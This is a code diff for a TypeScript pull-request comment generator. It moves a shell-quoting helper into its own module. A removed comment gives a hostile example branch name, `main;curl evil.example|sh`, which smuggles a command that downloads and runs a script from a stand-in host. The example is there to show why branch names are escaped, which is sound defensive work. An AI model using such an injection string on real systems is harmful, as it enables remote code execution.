@@ -1,4 +1,5 @@
 import { codeSpan, linkCodeSpan } from '../inert-markdown.ts';
+import { shellWord } from '../shell-word.ts';
 import { changeRows } from './change-rows.ts';
 import { details } from './details.ts';
 import { endOf, fitRows } from './fit.ts';
@@ -83,9 +84,4 @@ function footer({ report, policyAt, head, baseBranch, repositoryUrl }: CommentSu
       ? ' · advisory: this pull request could change the workflow that checks it'
       : '';
   return `<sub>${policy} · head ${codeSpan(head.slice(0, 7))}${weight} · same check here: ${command}</sub>`;
-}
-
-/** A word as it can be copied into a shell: git lets a branch be called `main;curl evil.example|sh`. */
-function shellWord(text: string): string {
-  return /^[\w./-]+$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`;
 }
